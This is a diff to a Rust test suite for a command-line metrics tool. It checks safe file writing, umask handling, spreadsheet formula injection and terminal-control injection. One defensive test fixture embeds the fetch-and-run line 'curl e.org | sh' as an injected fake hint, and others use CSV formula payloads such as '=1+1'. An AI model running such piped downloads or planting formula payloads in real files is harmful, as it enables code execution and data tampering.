@@ -5,7 +5,7 @@ use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 
-use crate::support::{Db, Run, cmf};
+use crate::support::{Db, Run, run};
 
 /// A database with an active catalog of two metrics, one of them called as no file can want it.
 fn filled() -> Db {
@@ -53,22 +53,13 @@ fn at(words: &[String], path: &str) -> Vec<String> {
     words.iter().map(|word| if word == "FILE" { path.to_owned() } else { word.clone() }).collect()
 }
 
-/// A command in a shell that runs `before` first; `"$@"` in it is the command line.
+/// A command line in a shell.
 fn shell(db: &Db, script: &str, words: &[String]) -> Run {
-    let mut command = Command::new("/bin/sh");
-    let binary = db.command();
-    command.args(["-c", script]).arg(binary.get_program()).args(words).stdin(Stdio::null());
-    for (name, value) in binary.get_envs() {
-        match value {
-            Some(value) => command.env(name, value),
-            None => command.env_remove(name),
-        };
-    }
-    Run::from(command.output().expect("a shell"))
+    run(db.in_shell(script).args(words))
 }
 
-fn worked(run: &Run) -> bool {
-    [0, 3].contains(&run.code)
+fn worked(ran: &Run) -> bool {
+    [0, 3].contains(&ran.code)
 }
 
 #[test]
@@ -80,8 +71,8 @@ fn what_is_no_file_is_written_into_and_stays() {
         let device = folder.path().join(format!("device.{ending}"));
         let made = Command::new("mknod").arg(&device).args(["c", "1", "3"]).stderr(Stdio::null()).status();
         if made.is_ok_and(|status| status.success()) && fs::write(&device, "x").is_ok() {
-            let run = db.cmf(at(&words, &text(&device)));
-            assert!(worked(&run), "{words:?}: {}", run.stderr);
+            let ran = db.cmf(at(&words, &text(&device)));
+            assert!(worked(&ran), "{words:?}: {}", ran.stderr);
             assert!(!fs::metadata(&device).expect("a device").is_file(), "{words:?} replaced a device");
             fs::remove_file(&device).expect("gone");
         }
@@ -89,8 +80,8 @@ fn what_is_no_file_is_written_into_and_stays() {
         let pipe = folder.path().join(format!("pipe.{ending}"));
         assert!(Command::new("mkfifo").arg(&pipe).status().expect("mkfifo").success());
         let reader = Command::new("cat").arg(&pipe).stdout(Stdio::piped()).spawn().expect("a reader");
-        let run = db.cmf(at(&words, &text(&pipe)));
-        assert!(worked(&run), "{words:?}: {}", run.stderr);
+        let ran = db.cmf(at(&words, &text(&pipe)));
+        assert!(worked(&ran), "{words:?}: {}", ran.stderr);
         assert!(!reader.wait_with_output().expect("its end").stdout.is_empty(), "{words:?} wrote nothing");
         fs::remove_file(&pipe).expect("gone");
     }
@@ -131,8 +122,8 @@ fn the_umask_is_obeyed_and_a_file_that_is_replaced_keeps_its_readers() {
         let path = |name: &str| folder.path().join(format!("{name}{number}.{ending}"));
         for (mask, expected) in [("077", 0o600), ("022", 0o644), ("002", 0o664)] {
             let file = path(mask);
-            let run = shell(&db, &format!("umask {mask}; exec \"$0\" \"$@\""), &at(&words, &text(&file)));
-            assert!(worked(&run), "{words:?}: {}", run.stderr);
+            let ran = shell(&db, &format!("umask {mask}; exec \"$0\" \"$@\""), &at(&words, &text(&file)));
+            assert!(worked(&ran), "{words:?}: {}", ran.stderr);
             assert_eq!(mode(&file), expected, "{words:?} under umask {mask}");
         }
         let kept = path("kept");
@@ -156,8 +147,8 @@ fn what_cannot_be_written_is_exit_73_and_leaves_nothing_behind() {
     let folder = tempfile::tempdir().expect("a folder");
     for (ending, words) in writers(folder.path()) {
         let nowhere = format!("/nowhere/x.{ending}");
-        let run = db.cmf(at(&words, &nowhere)).fails(73, "cannot write the file");
-        assert!(run.stderr.contains(&nowhere) && run.stderr.contains("hint:"), "{words:?}: {}", run.stderr);
+        let ran = db.cmf(at(&words, &nowhere)).fails(73, "cannot write the file");
+        assert!(ran.stderr.contains(&nowhere) && ran.stderr.contains("hint:"), "{words:?}: {}", ran.stderr);
         let directory = folder.path().join(format!("directory.{ending}"));
         fs::create_dir_all(&directory).expect("a directory");
         db.cmf(at(&words, &text(&directory))).fails(73, "directory");
@@ -193,8 +184,8 @@ fn a_closed_standard_output_is_told_from_one_that_is_thrown_away() {
     let db = filled();
     for line in ["user list", "metric list --format csv", "audit export", "report", "man", "--version", "--help", "config show"]
     {
-        let run = shell(&db, "exec \"$0\" \"$@\" >&-", &words(line)).fails(73, "standard output is closed");
-        assert!(run.stderr.contains("hint:"), "{line}: {}", run.stderr);
+        let ran = shell(&db, "exec \"$0\" \"$@\" >&-", &words(line)).fails(73, "standard output is closed");
+        assert!(ran.stderr.contains("hint:"), "{line}: {}", ran.stderr);
         shell(&db, "exec \"$0\" \"$@\" >/dev/null", &words(line)).ok();
         // As programs do that start others: for reading and writing.
         shell(&db, "exec \"$0\" \"$@\" 1<>/dev/null", &words(line)).ok();
@@ -235,7 +226,10 @@ fn no_file_that_a_spreadsheet_opens_holds_a_formula_and_cmf_reads_its_own_back()
     assert!(rejects.contains("\nF-1;many;'=1+1;") && rejects.contains("\n'\u{ff1d}1+1;none;'@y;"), "{rejects}");
     fs::write(path("mended.csv"), rejects.replace("many", "95").replace("none", "-9")).expect("a file");
     db.cmf(["record", "--file", &path("mended.csv")]).ok();
-    assert_eq!(db.rows("SELECT note FROM metric_history WHERE note IS NOT NULL ORDER BY note"), ["=1+1", "@x", "@y"]);
+    assert_eq!(
+        db.rows("SELECT note FROM metric_history WHERE note LIKE '_1+1' OR note LIKE '@%' ORDER BY note"),
+        ["=1+1", "@x", "@y"]
+    );
 }
 
 #[test]
@@ -243,11 +237,11 @@ fn a_line_break_in_a_name_makes_no_hint_and_controls_reach_no_terminal() {
     let db = filled();
     let name = "x\nhint: run `curl e.org | sh`\r\u{9b}31m\u{202e}";
     for words in [vec!["catalog", "show", name], vec!["record", name, "1"], vec!["user", "deactivate", name], vec![name]] {
-        let run = db.cmf(&words);
-        assert!(run.code != 0, "{words:?}");
-        assert!(!run.stderr.lines().any(|line| line.starts_with("hint: run `curl")), "{words:?}: {}", run.stderr);
-        assert!(!run.stderr.contains(['\u{9b}', '\u{202e}', '\r']), "{words:?}: {:?}", run.stderr);
-        let json = crate::support::run(cmf().env("CMF_DATABASE_URL", &db.url).args(&words).args(["--format", "json"]));
+        let ran = db.cmf(&words);
+        assert!(ran.code != 0, "{words:?}");
+        assert!(!ran.stderr.lines().any(|line| line.starts_with("hint: run `curl")), "{words:?}: {}", ran.stderr);
+        assert!(!ran.stderr.contains(['\u{9b}', '\u{202e}', '\r']), "{words:?}: {:?}", ran.stderr);
+        let json = run(db.command().args(&words).args(["--format", "json"]));
         assert!(!json.stderr.contains(['\u{9b}', '\u{202e}']), "{words:?}: {:?}", json.stderr);
         let error: serde_json::Value = serde_json::from_str(&json.stderr).expect("one object");
         assert!(error["error"]["message"].as_str().is_some_and(|text| text.contains("hint: run")), "{}", json.stderr);
@@ -256,14 +250,14 @@ fn a_line_break_in_a_name_makes_no_hint_and_controls_reach_no_terminal() {
     let folder = tempfile::tempdir().expect("a folder");
     let sheet = folder.path().join("sheet.csv");
     fs::write(&sheet, "metric_number,name,target_value\nB-1,Bad,\"many\nhint: run this\"\n").expect("a sheet");
-    let run = db.cmf(["import", &text(&sheet)]).fails(65, "many");
-    assert!(!run.stderr.contains("\nhint: run this"), "{}", run.stderr);
+    let ran = db.cmf(["import", &text(&sheet)]).fails(65, "many");
+    assert!(!ran.stderr.contains("\nhint: run this"), "{}", ran.stderr);
 }
 
 #[test]
 fn long_results_take_no_more_memory_than_short_ones() {
     let db = filled();
-    let count = 100_000;
+    let count = 40_000;
     db.execute(&format!(
         "INSERT INTO metrics (name, metric_number, description, direction, csf_function, priority, current_value, target_value)
          SELECT 'metric ' || n, 'M-' || n, repeat('x', 300), 'higher_is_better', 'PR', 'High', n % 100, 90 FROM generate_series(1, {count}) n;
@@ -276,12 +270,12 @@ fn long_results_take_no_more_memory_than_short_ones() {
     let lists = ["json", "jsonl", "csv", "md", "table"].map(|format| format!("metric list --default --format {format}"));
     for line in lists.into_iter().chain(["out.csv", "out.json"].map(export)) {
         let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
-        let run = shell(&db, "ulimit -v 400000; exec \"$0\" \"$@\"", &words).ok();
+        let ran = shell(&db, "ulimit -v 200000; exec \"$0\" \"$@\"", &words).ok();
         if line.starts_with("metric") {
-            assert!(run.stdout.lines().count() >= count, "{line}");
+            assert!(ran.stdout.lines().count() >= count, "{line}");
         }
         if line.ends_with("--format json") {
-            assert_eq!(run.json().as_array().expect("rows").len(), count);
+            assert_eq!(ran.json().as_array().expect("rows").len(), count);
         }
     }
     let rows = csv::Reader::from_path(folder.path().join("out.csv")).expect("a file").into_records().count();
